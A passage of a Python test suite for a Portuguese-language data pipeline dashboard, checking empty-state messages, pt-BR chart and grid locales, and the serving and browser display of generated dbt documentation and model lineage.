                assert page.locator("#db-down").count() == 0
                assert "indisponível" not in page.inner_text("body")
                assert_no_english(page)

                page.goto(url + "/graficos")
                # no database: nothing captured; no tables: no data for the charts
                says = views.NOTHING_CAPTURED_MESSAGE if name == missing else views.EMPTY_TABLE_MESSAGE
                wait_text(page, "#chart-salary", says)
                for chart in ("#chart-totals", "#chart-agencies", "#chart-companies", "#chart-salary"):
                    assert says in page.inner_text(chart), chart
                    assert page.locator(f"{chart} .xtick").count() == 0 and page.locator(f"{chart} .ytick").count() == 0
                assert "Período" in page.inner_text("#chart-period")
                assert_no_english(page)

                page.goto(url + "/execucoes")
                page.wait_for_selector("#runs-grid .ag-overlay-no-rows-center")
                assert page.inner_text("#runs-grid .ag-overlay-no-rows-center") == "Nenhuma linha para mostrar"
                assert page.locator("#nothing-captured").count() == 1
                assert_no_english(page)
                page.close()
    finally:
        with admin.cursor() as cursor:
            for name in (missing, empty):
                cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        admin.close()


def test_graphs_and_grids_carry_the_portuguese_locale():
    from pipelines.results.pages import charts, logs, runs, tables

    def page_json(builder):
        return json.dumps(builder().to_plotly_json(), default=lambda component: component.to_plotly_json())

    assert page_json(charts.layout).count('"locale": "pt-BR"') == 4
    assert GRAPH_CONFIG["locales"]["pt-BR"]["format"] == {"decimal": ",", "thousands": "."}
    for builder in (tables.layout, logs.layout, runs.layout):
        grids = page_json(builder)
        assert '"noRowsToShow": "Nenhuma linha para mostrar"' in grids and '"thousandSeparator": "."' in grids


# -- dbt documentation ----------------------------------------------------------------------


def test_docs_before_generation_name_the_command(settings, tmp_path):
    client = create_app(dataclasses.replace(settings, data_dir=tmp_path)).server.test_client()
    redirect = client.get("/docs")
    assert redirect.status_code == 308 and redirect.headers["Location"].endswith("/docs/")
    response = client.get("/docs/")
    assert response.status_code == 404 and response.mimetype == "text/html"
    text = response.get_data(as_text=True)
    assert "A documentação do dbt ainda não foi gerada." in text and ".venv/bin/python run/materialize.py" in text
    assert client.get("/docs/segredo.txt").status_code == 404


def test_browser_shows_the_dbt_docs(filled, settings, served, browser):
    published = generate_docs(settings)
    assert sorted(p.name for p in published.iterdir()) == ["catalog.json", "index.html", "manifest.json"]
    with urllib.request.urlopen(served + "/docs/manifest.json", timeout=10) as response:
        manifest = json.load(response)
    chain = [
        "model.terceirizados.historic_transformed",
        "model.terceirizados.historic_renamed",
        "model.terceirizados.historic_cleaned",
        "model.terceirizados.historic_raw",
        "source.terceirizados.raw.terceirizados",
    ]
    for child, parent in zip(chain, chain[1:]):  # the lineage, from the source to the last model
        assert parent in manifest["parent_map"][child], (child, parent)
    # the checks run before the commit (verify_before_commit) also read these
    assert sorted(manifest["parent_map"][chain[0]]) == sorted(chain[1:4])

    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(served + "/tabelas")
    page.click("#nav-docs")
    page.wait_for_url(served + "/docs/#!/overview")
    wait_text(page, "body", "terceirizados")  # the project, loaded from manifest.json and catalog.json
    page.goto(served + "/docs/#!/model/model.terceirizados.historic_transformed")
    wait_text(page, "body", "Depends On")
    text = page.inner_text("body")
    assert "Código SIAFI da unidade gestora do terceirizado, com 6 dígitos" in text  # column descriptions
    # its tests: in the manifest, and on the page's "Referenced By" list (the models that read it,
    # the marts, come first in their own tab)
    tests = [n for n in manifest["child_map"]["model.terceirizados.historic_transformed"] if n.startswith("test.")]
    assert any("unique_combination_historic_transformed_ano__mes__id_terceirizado" in n for n in tests)
    assert "Data Tests" in text or "unique_combination_historic_transformed" in text  # the page lists them
    assert "historic_renamed" in text.split("Depends On", 1)[1]
    screenshot(page, "resultados_docs.png")
    page.goto(served + "/docs/#!/source/source.terceirizados.raw.terceirizados")
    wait_text(page, "body", "Referenced By")
    referenced = page.inner_text("body").split("Referenced By", 1)[1]
    assert "historic_raw" in referenced
    page.close()
